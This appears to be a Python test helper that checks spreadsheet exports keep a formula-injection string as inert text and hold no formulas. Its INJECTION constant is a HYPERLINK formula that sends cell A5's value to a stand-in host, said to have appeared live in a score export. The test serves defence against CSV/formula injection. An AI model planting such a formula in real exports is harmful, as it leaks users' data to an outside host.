"""A text that a spreadsheet would run as a formula, and the check every export's test makes:
the file read back holds it as text, and holds no formula at all."""

from openpyxl.workbook.workbook import Workbook

# The organiser's score export carried this live (issue 11): it sends the neighbouring cell to x.
INJECTION = '=HYPERLINK("http://x/?"&A5,"评语详情")'


def assert_kept_as_text(workbook: Workbook, text: str = INJECTION) -> None:
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    held = [cell for cell in cells if cell.value == text]
    assert held, f"{text} is not in the workbook"
    assert all(cell.data_type == "s" for cell in held)
